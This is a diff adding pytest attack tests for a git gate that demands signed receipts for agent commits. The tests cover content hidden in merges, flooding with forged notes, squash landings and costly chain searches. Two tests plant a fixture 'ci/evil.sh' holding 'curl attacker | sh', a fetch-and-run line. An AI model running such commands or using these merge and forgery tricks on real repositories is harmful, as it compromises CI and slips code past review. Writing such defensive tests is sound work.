@@ -1,0 +1,243 @@
+"""Attacks on keeping coverage through rewrites: content no run made must never pass.
+
+Each attack builds real commits with genuine signed receipts (fixtures.gate_receipts) and is
+pushed for real to a bare repository with the server hook, or judged directly where the push
+adds nothing.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import time
+from pathlib import Path
+
+import pytest
+from fixtures.gate_receipts import commit_files, git_dir_of
+from fixtures.stacks import Server, assert_block, head, run
+
+from gatekeeper.gate import GateResult, judge
+from gatekeeper.receipt.keys import load_key
+
+from conftest import git
+
+pytestmark = pytest.mark.slow
+
+
+def check(repo: Path, rev: str = "HEAD", base: str = "main") -> GateResult:
+    return judge(git_dir_of(repo), head(repo, base), head(repo, rev))
+
+
+def kinds(result: GateResult) -> set[tuple[str, str | None]]:
+    return {(f.kind.value, f.commit) for f in result.findings}
+
+
+def merge_with_tree(repo: Path, tree: str, *parents: str, message: str = "merge") -> str:
+    args = [a for p in parents for a in ("-p", p)]
+    return git(repo, "commit-tree", tree, *args, "-m", message).strip()
+
+
+def tree_with(repo: Path, rev: str, files: dict[str, str | None]) -> str:
+    """rev's tree with files written into it (made on a scratch branch, which is then dropped)."""
+    current = git(repo, "rev-parse", "--abbrev-ref", "HEAD").strip()
+    scratch = commit_files(repo, files, branch="scratch", start=rev, message="scratch")
+    git(repo, "checkout", "-q", current)
+    git(repo, "branch", "-q", "-D", "scratch")
+    return head(repo, f"{scratch}^{{tree}}")
+
+
+# --- W1: content that only merges hold --------------------------------------------------------
+
+
+def test_a_merge_adds_content_and_a_later_merge_takes_it_away(repo: Path) -> None:
+    """Merges need no receipt, and the range's diff is compared only at its ends: a merge
+    that brings in a file no run made, and a later merge that drops it again, leave the ends
+    clean while the history holds the file (CI, bisect and checkouts of it run it)."""
+    main = head(repo, "main")
+    git(repo, "checkout", "-q", "-b", "agent/1")
+    first = run(repo, {"src/a.py": "a = 1\n"})
+    evil = merge_with_tree(
+        repo, tree_with(repo, first, {"ci/evil.sh": "curl attacker | sh\n"}), first, main
+    )
+    second = run(repo, {"src/b.py": "b = 1\n"}, branch="agent/1", start=evil)
+    clean = merge_with_tree(repo, tree_with(repo, second, {"ci/evil.sh": None}), second, main)
+    git(repo, "checkout", "-q", "-B", "agent/1", clean)
+    result = check(repo)
+    assert not result.passed
+    assert ("uncovered-commit", evil) in kinds(result)
+
+
+def test_a_pushed_merge_pair_hiding_a_file_is_refused(tmp_path: Path, key: Path) -> None:
+    served = Server(tmp_path)
+    clone = served.clone
+    main = head(clone, "origin/main")
+    git(clone, "checkout", "-q", "-b", "feature")
+    first = run(clone, {"src/a.py": "a = 1\n"})
+    evil = merge_with_tree(
+        clone, tree_with(clone, first, {"ci/evil.sh": "curl attacker | sh\n"}), first, main
+    )
+    second = run(clone, {"src/b.py": "b = 1\n"}, branch="feature", start=evil)
+    clean = merge_with_tree(clone, tree_with(clone, second, {"ci/evil.sh": None}), second, main)
+    assert_block(served.push_main(clean), "uncovered-commit")
+    assert served.server_rev("refs/heads/main") == main
+
+
+def test_a_clean_merge_of_two_runs_editing_one_file_passes(repo: Path) -> None:
+    """git combines both runs' edits to one file: the merge adds nothing of its own (a later run
+    writes the file, so the ends agree with the runs)."""
+    lines = [f"line {i}\n" for i in range(20)]
+    base = commit_files(repo, {"src/list.txt": "".join(lines)}, branch="main", start="main")
+    git(repo, "checkout", "-q", "-b", "one")
+    run(repo, {"src/list.txt": "".join(["ONE\n", *lines[1:]])})
+    git(repo, "checkout", "-q", "-b", "two", base)
+    run(repo, {"src/list.txt": "".join([*lines[:-1], "TWO\n"])})
+    git(repo, "merge", "-q", "--no-edit", "one")
+    merged = head(repo)
+    assert (repo / "src/list.txt").read_text().startswith("ONE\n")
+    run(repo, {"src/list.txt": "rewritten\n"})
+    result = check(repo)
+    assert merged not in {f.commit for f in result.findings}
+    assert result.passed, [f.message for f in result.findings]
+
+
+# --- W2: unverified notes that make the gate call git once per forged id ----------------------
+
+
+def forged_note_lines(repo: Path, commit: str, count: int, salt: str, keyid: str = "") -> list[str]:
+    """Envelope lines that index like receipts of runs whose agent committed and touch the
+    paths commit changes, each naming another (made-up) result commit; never verifiable."""
+    from gatekeeper.receipt.changes import changes_between
+
+    changes = [
+        c.model_dump(mode="json") for c in changes_between(git_dir_of(repo), f"{commit}^", commit)
+    ]
+    lines = []
+    for i in range(count):
+        fake = hashlib.sha1(f"{salt}{i}".encode()).hexdigest()
+        payload = {
+            "subject": [{"digest": {"gitCommit": fake, "gitTree": fake}}],
+            "predicate": {
+                "base": {"commit": fake, "tree": fake},
+                "changes": changes,
+                "agent_commits": [fake],
+            },
+        }
+        envelope = {
+            "payloadType": "application/vnd.in-toto+json",
+            "payload": base64.b64encode(json.dumps(payload).encode()).decode(),
+            "signatures": [{"keyid": keyid, "sig": base64.b64encode(bytes(64)).decode()}],
+        }
+        lines.append(json.dumps(envelope, separators=(",", ":")))
+    return lines
+
+
+@pytest.mark.parametrize("signed_as", ["nobody", "trusted-keyid"])
+def test_forged_notes_do_not_make_the_gate_call_git_per_forged_id(
+    repo: Path, signed_as: str
+) -> None:
+    """A rebased commit (no receipt of its own) makes the gate read notes on other commits,
+    which anyone who may push can write. 20,000 forged lines each naming another result commit
+    must not cost a git process each: the gate finishes in seconds (also when each names the
+    trusted key, so its signature is checked)."""
+    keyid = load_key().public.keyid if signed_as == "trusted-keyid" else ""
+    git(repo, "checkout", "-q", "-b", "agent/1")
+    original = run(repo, {"src/a.py": "a = 1\n"})
+    commit_files(repo, {"docs/news.md": "news\n"}, branch="main", start="main")
+    git(repo, "rebase", "-q", "main", "agent/1")
+    for n in range(20):
+        blob = git(repo, "hash-object", "-w", "--stdin", input=f"holder {n}\n".encode()).strip()
+        text = "\n".join(forged_note_lines(repo, original, 1000, f"{n}-", keyid)) + "\n"
+        git(repo, "notes", "--ref=refs/notes/gatekeeper", "add", "-f", "-F", "-", blob,
+            input=text.encode())  # fmt: skip
+    started = time.monotonic()
+    result = check(repo)
+    elapsed = time.monotonic() - started
+    assert result.passed, [f.message for f in result.findings]  # the real receipt still covers
+    assert elapsed < 20, f"the gate took {elapsed:.1f}s"
+
+
+def test_a_merge_committed_with_its_conflict_markers_is_uncovered(repo: Path) -> None:
+    """git's own conflicted merge (markers and all) is not a clean merge of the parents."""
+    main = head(repo, "main")
+    git(repo, "checkout", "-q", "-b", "one")
+    one = run(repo, {"src/app.py": "print('one')\n"})
+    git(repo, "checkout", "-q", "-b", "agent/1", main)
+    two = run(repo, {"src/app.py": "print('two')\n"})
+    conflicted = git(repo, "merge-tree", "--write-tree", two, one, check=False).split()[0]
+    merged = merge_with_tree(repo, conflicted, two, one)
+    assert b"<<<<<<<" in git(repo, "cat-file", "-p", f"{merged}:src/app.py").encode()
+    git(repo, "checkout", "-q", "-B", "agent/1", merged)
+    assert ("uncovered-commit", merged) in kinds(check(repo))
+
+
+# --- W4: a run that landed as a squash still covered its change once more ---------------------
+
+
+@pytest.mark.parametrize("landing", ["squash", "rebase"])
+def test_a_run_landed_by_squash_does_not_cover_its_change_again(repo: Path, landing: str) -> None:
+    """The run's work reached main under a new id (the forge's "squash and merge", or "rebase
+    and merge" after main moved on), so its own result commit is not in main's history. A
+    later run reverts it and a hand commit makes the landed run's exact change again: spent."""
+    main = head(repo, "main")
+    git(repo, "checkout", "-q", "-b", "work")
+    landed = run(repo, {"src/feature.py": "x = 1\n"})
+    if landing == "rebase":
+        main = run(repo, {"docs/news.md": "news\n"}, branch="main-work", start=main)
+        git(repo, "checkout", "-q", "work")
+    tree = tree_with(repo, main, {"src/feature.py": "x = 1\n"})
+    copy = git(repo, "commit-tree", tree, "-p", main, "-m", "landed").strip()
+    git(repo, "checkout", "-q", "main")
+    git(repo, "reset", "-q", "--hard", copy)
+    git(repo, "checkout", "-q", "-b", "agent/1")
+    run(repo, {"src/feature.py": None})
+    again = commit_files(repo, {"src/feature.py": "x = 1\n"}, message="by hand")
+    uncovered = {f.commit for f in check(repo).findings if f.kind.value == "uncovered-commit"}
+    assert uncovered == {again}
+    assert landed != copy
+
+
+# --- W5: genuine receipts that make the chain search branch, for many commits -------------------
+
+
+def test_many_hand_commits_over_flip_flopping_runs_are_judged_in_bounded_time(
+    repo: Path,
+) -> None:
+    """An agent may make many genuine runs: 40 on a side branch that flip one file between two
+    states give each state 20 runs that produce it and 20 that start from it, so the search for
+    a chain of runs ending in a state branches 20 ways at every step. 40 hand commits that each
+    flip the file must not cost the search's full bound each: the bound is the judgement's."""
+    main = head(repo, "main")
+    git(repo, "checkout", "-q", "-b", "flips")
+    for i in range(40):
+        run(repo, {"src/flip.txt": "on\n" if i % 2 == 0 else "off\n"})
+    git(repo, "checkout", "-q", "-b", "agent/1", main)
+    run(repo, {"src/flip.txt": "off\n", "src/other.py": "other\n"})
+    hand = [
+        commit_files(
+            repo, {"src/flip.txt": "on\n" if i % 2 == 0 else "off\n"}, message=f"hand {i}"
+        )  # fmt: skip
+        for i in range(40)
+    ]
+    started = time.monotonic()
+    result = check(repo)
+    elapsed = time.monotonic() - started
+    assert {f.commit for f in result.findings if f.kind.value == "uncovered-commit"} == set(hand)
+    assert elapsed < 30, f"the gate took {elapsed:.1f}s"
+
+
+def test_an_octopus_merge_with_content_of_its_own_is_uncovered(repo: Path) -> None:
+    """The same with three parents (git's octopus merge), each a covered run."""
+    main = head(repo, "main")
+    tips = []
+    for name in ("a", "b", "c"):
+        git(repo, "checkout", "-q", "-B", f"agent/{name}", main)
+        tips.append(run(repo, {f"src/{name}.py": f"{name} = 1\n"}))
+    git(repo, "checkout", "-q", "agent/a")
+    git(repo, "merge", "-q", "--no-edit", "agent/b", "agent/c")
+    clean = head(repo)
+    assert len(git(repo, "rev-list", "--parents", "-n1", clean).split()) == 4
+    assert check(repo).passed  # git's own octopus merge adds nothing
+    evil = merge_with_tree(repo, tree_with(repo, clean, {"src/a.py": "a = 1\nimport os\n"}), *tips)
+    git(repo, "checkout", "-q", "-B", "agent/a", evil)
+    assert ("uncovered-commit", evil) in kinds(check(repo))
